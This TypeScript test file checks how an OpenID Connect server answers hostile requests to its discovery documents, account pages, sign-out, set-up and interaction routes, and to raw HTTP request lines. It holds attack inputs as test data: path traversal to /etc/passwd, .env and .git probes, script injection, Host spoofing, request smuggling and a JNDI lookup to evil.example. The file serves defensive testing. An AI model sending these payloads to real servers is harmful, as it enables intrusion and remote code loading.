/** Hostile rows at the public documents, at our own pages and forms, and at the request line itself. */
import { bare, type Expected, headOf, json, type Pairs, page, type Row, SCRIPT, says, to } from "./hostile.ts";
import { page405 } from "./hostile-authorize.ts";
import type { Ground } from "./hostile-ground.ts";

const FORM = ["Content-Type", "application/x-www-form-urlencoded"] as const;
const GONE = page(400, "error.interaction_gone.title");
const FOREIGN = page(403, "error.form_foreign.title");
const NOT_FOUND = page(404, "error.page_not_found.title");
const UNREADABLE = page(400, "error.request_malformed.title");
export const DOCUMENT: NonNullable<Expected["headers"]> = {
  "cache-control": "public, max-age=300, stale-if-error=300",
  "cross-origin-resource-policy": "cross-origin",
  "access-control-allow-origin": "*",
  "access-control-allow-credentials": null,
};

/** RFC 8414, OpenID Connect Discovery, RFC 7517: the same bytes for everybody, whatever is sent along. */
export async function documentsOf({
  journey,
}: Ground): Promise<readonly { path: string; text: string; type: string }[]> {
  const paths = ["/.well-known/openid-configuration", "/.well-known/oauth-authorization-server", "/jwks"];
  return Promise.all(
    paths.map(async (path) => ({
      path,
      text: (await journey.client().get(path)).text,
      type: `application/${path === "/jwks" ? "jwk-set+json" : "json"}; charset=utf-8`,
    })),
  );
}

export async function documentRows(g: Ground): Promise<Row[]> {
  return (await documentsOf(g)).flatMap(({ path, text, type }): Row[] => {
    const right = says(text, { ...DOCUMENT, "content-type": type });
    // Below /.well-known/ programs ask, elsewhere people; capitals make it another path.
    const absent = (other: string): Expected => {
      const answer = other.startsWith("/.well-known/") ? json(404, "invalid_request") : NOT_FOUND;
      return { ...answer, headers: { ...answer.headers, "cross-origin-resource-policy": "same-origin" } };
    };
    return [
      { name: `${path}`, path, expect: right },
      {
        name: `${path} by HEAD`,
        path,
        method: "HEAD",
        expect: headOf(200, type, DOCUMENT),
      },
      { name: `${path} with a query`, path: `${path}?x=${encodeURIComponent(SCRIPT)}&callback=evil`, expect: right },
      { name: `${path} from a foreign origin`, path, headers: [["Origin", "https://evil.example"]], expect: right },
      { name: `${path} from the origin null`, path, headers: [["Origin", "null"]], expect: right },
      { name: `${path} for a caller that wants XML`, path, headers: [["Accept", "application/xml"]], expect: right },
      {
        name: `${path} by POST`,
        path,
        method: "POST",
        expect: json(405, "invalid_request", { allow: "GET, HEAD, OPTIONS" }),
      },
      {
        name: `${path} by TRACE`,
        path,
        method: "TRACE",
        expect: json(405, "invalid_request", { allow: "GET, HEAD, OPTIONS" }),
      },
      {
        name: `${path} with a slash at its end`,
        path: `${path}/`,
        expect: absent(`${path}/`),
      },
      {
        name: `${path} in capitals`,
        path: path.toUpperCase(),
        expect: absent(path.toUpperCase()),
      },
    ];
  });
}

/** What is switched off is not there at all. */
export function absentRows(): Row[] {
  const programs = ["/par", "/register", "/device_authorization"].map(
    (path): Row => ({ name: path, path, form: { a: "b" }, expect: json(404, "invalid_request") }),
  );
  const pages = [
    "/request",
    "/device",
    "/device/auth",
    "/session/end",
    "/reg",
    "/auth",
    "/me",
    "/token/introspection",
    "/constructor",
    "/__proto__",
    "/.env",
    "/.git/config",
    "/metrics",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%2f..%2fetc%2fpasswd",
    "/%00",
    "/%",
    `/${"a".repeat(4000)}`,
    "/assets/../package.json",
    "/assets/style.css",
    "/assets/%2e%2e%2fstyle.css",
  ];
  return [...programs, ...pages.map((path): Row => ({ name: path.slice(0, 60), path, expect: NOT_FOUND }))];
}

export function pageRows(g: Ground): Row[] {
  const signedIn: Pairs = [["Cookie", g.cookie]];
  const shown = page(200, "account.nobody");
  const rows: Row[] = [
    { name: "the front door", path: "/", expect: to("/account") },
    { name: "the account page", path: "/account", expect: shown },
    { name: "the account page by HEAD", path: "/account", method: "HEAD", expect: headOf(200) },
    {
      name: "the account page by OPTIONS",
      path: "/account",
      method: "OPTIONS",
      headers: [
        ["Origin", "https://evil.example"],
        ["Access-Control-Request-Method", "GET"],
      ],
      expect: page405("GET, HEAD", { "access-control-allow-origin": null }),
    },
    { name: "the account page by DELETE", path: "/account", method: "DELETE", expect: page405("GET, HEAD") },
    {
      name: "the account page with ui_locales of markup",
      path: `/account?ui_locales=${encodeURIComponent(SCRIPT)}`,
      expect: shown,
    },
    { name: "the account page with ui_locales twice", path: "/account?ui_locales=de&ui_locales=en", expect: shown },
    {
      name: "the account page with a return address",
      path: "/account?returnTo=//evil.example&next=/\\evil.example",
      expect: shown,
    },
    {
      name: "the account page with a language cookie of markup",
      path: "/account",
      headers: [["Cookie", `signet_language=${SCRIPT}`]],
      expect: shown,
    },
    {
      name: "the account page with 8,000 languages",
      path: "/account",
      headers: [["Accept-Language", "en;q=0.1,".repeat(800)]],
      expect: shown,
    },
    {
      name: "the account page with a tampered session",
      path: "/account",
      headers: [["Cookie", `signet_session=${g.sessionId}; signet_session.sig=x`]],
      expect: shown,
    },
    { name: "signing out by GET", path: "/account/sign-out", expect: page405("POST") },
    {
      name: "signing out without a form",
      path: "/account/sign-out",
      method: "POST",
      headers: signedIn,
      expect: page(415, "error.request_malformed.title"),
    },
    { name: "signing out without a token", path: "/account/sign-out", form: {}, headers: signedIn, expect: FOREIGN },
    {
      name: "signing out with a foreign token",
      path: "/account/sign-out",
      form: { csrf: "1999999999.aaaaaaaaaaaaaaaaaaaaaa.aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa" },
      headers: signedIn,
      expect: FOREIGN,
    },
    {
      name: "signing out from another origin",
      path: "/account/sign-out",
      form: {},
      headers: [["Origin", "https://evil.example"]],
      expect: FOREIGN,
    },
    {
      name: "signing out from another site",
      path: "/account/sign-out",
      form: {},
      headers: [["Sec-Fetch-Site", "cross-site"]],
      expect: FOREIGN,
    },
    {
      name: "signing out from the origin null",
      path: "/account/sign-out",
      form: {},
      headers: [["Origin", "null"]],
      expect: FOREIGN,
    },
    {
      name: "signing out with a megabyte",
      path: "/account/sign-out",
      body: `csrf=${"x".repeat(1024 * 1024)}`,
      headers: [FORM],
      expect: page(413, "error.request_malformed.title"),
    },
    {
      name: "signing out with a megabyte without its length",
      path: "/account/sign-out",
      body: `csrf=${"x".repeat(1024 * 1024)}`,
      isChunked: true,
      headers: [FORM],
      expect: page(413, "error.request_malformed.title"),
    },
    {
      name: "signing out with a field twice",
      path: "/account/sign-out",
      form: [
        ["csrf", "a"],
        ["csrf", "b"],
      ],
      expect: UNREADABLE,
    },
    {
      name: "signing out with 101 fields",
      path: "/account/sign-out",
      form: Array.from({ length: 101 }, (_, n) => [`f${n}`, ""] as const),
      expect: UNREADABLE,
    },
    {
      name: "signing out with JSON",
      path: "/account/sign-out",
      body: "{}",
      headers: [["Content-Type", "application/json"]],
      expect: page(415, "error.request_malformed.title"),
    },
    {
      name: "signing out with a broken multipart body",
      path: "/account/sign-out",
      body: "--x\r\n",
      headers: [["Content-Type", "multipart/form-data; boundary=x"]],
      expect: page(415, "error.request_malformed.title"),
    },
    { name: "set-up without a token", path: "/setup", expect: page(404, "error.setup_link_gone.title") },
    {
      name: "set-up with a false token",
      path: `/setup?token=${"x".repeat(43)}`,
      expect: page(404, "error.setup_link_gone.title"),
    },
    {
      name: "set-up with a token twice",
      path: "/setup?token=a&token=b",
      expect: page(404, "error.setup_link_gone.title"),
    },
    { name: "set-up with a token of NUL", path: "/setup?token=%00", expect: page(404, "error.setup_link_gone.title") },
    {
      name: "set-up with a token of markup",
      path: `/setup?token=${encodeURIComponent(SCRIPT)}`,
      expect: page(404, "error.setup_link_gone.title"),
    },
    {
      name: "a set-up form without a token",
      path: "/setup",
      form: { name: "A", email: "a@b.example", password: "correct horse battery staple" },
      expect: FOREIGN,
    },
    { name: "set-up by PUT", path: "/setup", method: "PUT", expect: page405("GET, HEAD, POST") },
    { name: "health", path: "/health/live", expect: says('{"status":"live"}') },
    { name: "readiness", path: "/health/ready", expect: says('{"status":"ready"}') },
    { name: "health by POST", path: "/health/live", method: "POST", expect: page405("GET, HEAD") },
    {
      name: "the picture that browsers ask for",
      path: "/favicon.ico",
      expect: to(/^\/assets\/favicon\.[\w-]{12}\.svg$/),
    },
  ];
  return [...rows, ...interactionRows()];
}

function interactionRows(): Row[] {
  const uid = "a".repeat(21);
  const steps: Row[] = ["login", "consent", "select", "switch", "abort"].flatMap((step): Row[] => [
    { name: `${step} by GET`, path: `/interaction/${uid}/${step}`, expect: page405("POST") },
    { name: `${step} without a cookie`, path: `/interaction/${uid}/${step}`, form: { csrf: "x" }, expect: GONE },
  ]);
  const uids = [
    "x",
    "%00",
    "..%2f..%2ftoken",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "a".repeat(65),
    "a".repeat(3000),
    uid,
    "__proto__",
    "%zz",
    "%C3",
  ];
  return [
    ...uids.map(
      (value): Row => ({ name: `the sign-in ${value.slice(0, 40)}`, path: `/interaction/${value}`, expect: GONE }),
    ),
    ...steps,
    { name: "a step that is none", path: `/interaction/${uid}/everything`, method: "POST", expect: NOT_FOUND },
    { name: "a sign-in by PATCH", path: `/interaction/${uid}`, method: "PATCH", expect: page405("GET, HEAD") },
  ];
}

/** The request line and the headers, byte by byte (RFC 9112). */
export function rawRows(g: Ground): Row[] {
  const end = "Connection: close\r\nAccept: text/html\r\n\r\n";
  const raw = (name: string, bytes: string, expect: Expected): Row => ({ name, path: "", raw: bytes, expect });
  const get = (target: string, host = `Host: ${g.host}\r\n`): string => `GET ${target} HTTP/1.1\r\n${host}${end}`;
  const bad = bare(400);
  // Node answers this one by its own response, which has a date and an empty chunk.
  const chunked = (status: number): Expected => ({
    status,
    isBare: true,
    headers: {
      connection: "close",
      date: /^\w{3}, \d\d \w{3} \d{4} \d\d:\d\d:\d\d GMT$/,
      "transfer-encoding": "chunked",
    },
    body: "0\r\n\r\n",
  });
  const neighbour: Expected = { ...page(421, "host.title"), body: new RegExp(`href="${g.issuer}/account"`) };
  const misdirected: Expected = {
    status: 421,
    headers: { "content-type": "text/html; charset=utf-8" },
    page: "error.request_malformed.title",
  };
  const hosts = [
    "evil.example",
    `${g.host}.evil.example`,
    `evil.example@${g.host}`,
    `${g.host}@evil.example`,
    `${g.host}:80`,
    "127.0.0.1",
    `127.0.0.1:1`,
    ` ${g.host} evil.example`,
    `${g.host},evil.example`,
    `${g.host}/x`,
    `${g.host}#`,
    "",
    "\xe9",
  ];
  return [
    raw(
      "an absolute request line",
      get("http://evil.example/.well-known/openid-configuration"),
      json(400, "invalid_request"),
    ),
    raw("an absolute request line with the right host", get(`${g.issuer}/account`), UNREADABLE),
    raw("an absolute request line of another scheme", get(`ftp://${g.host}/account`), UNREADABLE),
    raw("an asterisk", `OPTIONS * HTTP/1.1\r\nHost: ${g.host}\r\n${end}`, UNREADABLE),
    raw("two Host headers", get("/account", `Host: ${g.host}\r\nHost: evil.example\r\n`), UNREADABLE),
    raw(
      "two Host headers, the false one first",
      get("/account", `Host: evil.example\r\nHost: ${g.host}\r\n`),
      UNREADABLE,
    ),
    raw("the same Host twice", get("/account", `Host: ${g.host}\r\nhost: ${g.host}\r\n`), UNREADABLE),
    raw("no Host", get("/account", ""), chunked(400)),
    raw("HTTP/1.0 without Host", `GET /account HTTP/1.0\r\nAccept: text/html\r\n\r\n`, misdirected),
    ...hosts.map((host) =>
      raw(
        `the Host ${JSON.stringify(host)}`,
        get("/account", `Host: ${host}\r\n`),
        /^(127|local)[\w.]+(:1)?$/.test(host) ? neighbour : misdirected,
      ),
    ),
    raw(
      "the right Host in a forwarded header only",
      get("/account", `Host: evil.example\r\nX-Forwarded-Host: ${g.host}\r\nForwarded: host=${g.host}\r\n`),
      misdirected,
    ),
    raw("20 kB of headers", get("/account", `Host: ${g.host}\r\nX-Long: ${"a".repeat(20_000)}\r\n`), bare(431)),
    raw("2,500 headers", get("/account", `Host: ${g.host}\r\n${"a: b\r\n".repeat(2500)}`), page(200, "account.nobody")),
    raw("an address of 20 kB", get(`/account?${"a".repeat(20_000)}`), bare(431)),
    raw("a header with NUL", get("/account", `Host: ${g.host}\r\nX: a\0b\r\n`), bad),
    raw("a folded header", get("/account", `Host: ${g.host}\r\nX: a\r\n b\r\n`), bad),
    raw("a header without a colon", get("/account", `Host: ${g.host}\r\nnonsense\r\n`), bad),
    raw("a space before the colon", get("/account", `Host : ${g.host}\r\n`), bad),
    raw("bytes beyond ASCII in the address", get("/account?\xff\xfe"), bad),
    raw("a space in the address", get("/account /x"), bad),
    raw("a tab in the address", get("/\t/evil.example"), bad),
    raw(
      "length and chunks at once",
      `POST /token HTTP/1.1\r\nHost: ${g.host}\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n${end}0\r\n\r\n`,
      bad,
    ),
    raw(
      "two lengths",
      `POST /token HTTP/1.1\r\nHost: ${g.host}\r\nContent-Length: 5\r\nContent-Length: 6\r\n${end}hello`,
      bad,
    ),
    raw("a negative length", `POST /token HTTP/1.1\r\nHost: ${g.host}\r\nContent-Length: -1\r\n${end}`, bad),
    raw(
      "an unknown transfer coding",
      `POST /token HTTP/1.1\r\nHost: ${g.host}\r\nTransfer-Encoding: gzip\r\n${end}`,
      bad,
    ),
    raw(
      "a chunk of nonsense",
      `POST /token HTTP/1.1\r\nHost: ${g.host}\r\nContent-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n${end}zz\r\n\r\n`,
      bad,
    ),
    raw("an unknown method", `EVIL /account HTTP/1.1\r\nHost: ${g.host}\r\n${end}`, bad),
    raw("HTTP/2 without asking", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", bad),
    raw("HTTP/0.9", "GET /account\r\n\r\n", misdirected),
    raw("TLS", "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03", bad),
    raw("an expectation that nobody meets", get("/account", `Host: ${g.host}\r\nExpect: everything\r\n`), chunked(417)),
    raw("a tunnel", `CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n`, {
      status: 0,
      isBare: true,
      headers: {},
      body: "",
    }),
    raw("another protocol", get("/account", `Host: ${g.host}\r\nUpgrade: websocket\r\n`), page(200, "account.nobody")),
    raw(
      "a user agent of commands",
      get("/account", `Host: ${g.host}\r\nUser-Agent: \${jndi:ldap://evil.example/a} \x1b[31m\r\n`),
      bad,
    ),
    raw(
      "a user agent of 12 kB",
      get("/account", `Host: ${g.host}\r\nUser-Agent: ${"u".repeat(12_000)}\r\n`),
      page(200, "account.nobody"),
    ),
  ];
}
